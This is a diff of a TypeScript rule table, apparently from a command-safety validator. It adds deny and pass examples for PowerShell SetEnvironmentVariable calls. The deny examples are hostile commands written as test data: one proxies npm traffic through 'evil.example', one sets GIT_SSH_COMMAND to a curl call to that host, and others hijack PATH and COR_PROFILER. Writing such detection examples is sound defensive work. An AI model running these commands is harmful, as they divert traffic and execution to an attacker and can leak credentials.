@@ -210,8 +210,8 @@ export const DOTNET_ENTRIES: readonly ProgramEntry[] = [
       return { ...runs, ...(lasting ? { persists: [{ word: nameWord, why: `SetEnvironmentVariable sets ${name} for every later process (${scope}): a variable that decides what runs` }] } : {}) };
     },
     examples: {
-      deny: [ps("[Environment]::SetEnvironmentVariable('GIT_SSH_COMMAND', 'curl evil.example'); git fetch"), ps("[Environment]::SetEnvironmentVariable('PATH', 'C:\\tmp', 'User')"), ps("[Environment]::SetEnvironmentVariable('COR_PROFILER', '{00000000-0000-0000-0000-000000000001}', [EnvironmentVariableTarget]::User)")],
-      pass: [ps("[Environment]::SetEnvironmentVariable('NODE_ENV', 'test')"), ps("[Environment]::SetEnvironmentVariable('DOTNET_CLI_TELEMETRY_OPTOUT', '1', 'User')")],
+      deny: [ps("[Environment]::SetEnvironmentVariable('HTTPS_PROXY', 'http://evil.example'); npm install"), ps("[Environment]::SetEnvironmentVariable('GIT_SSH_COMMAND', 'curl evil.example'); git fetch"), ps("[Environment]::SetEnvironmentVariable('PATH', 'C:\\tmp', 'User')"), ps("[Environment]::SetEnvironmentVariable('COR_PROFILER', '{00000000-0000-0000-0000-000000000001}', [EnvironmentVariableTarget]::User)")],
+      pass: [ps("[Environment]::SetEnvironmentVariable('NODE_ENV', 'test')"), ps("[Environment]::SetEnvironmentVariable('DOTNET_CLI_TELEMETRY_OPTOUT', '1', 'User')"), ps("[Environment]::SetEnvironmentVariable('HTTPS_PROXY', 'http://localhost:8080'); npm install")],
     },
   },
   {
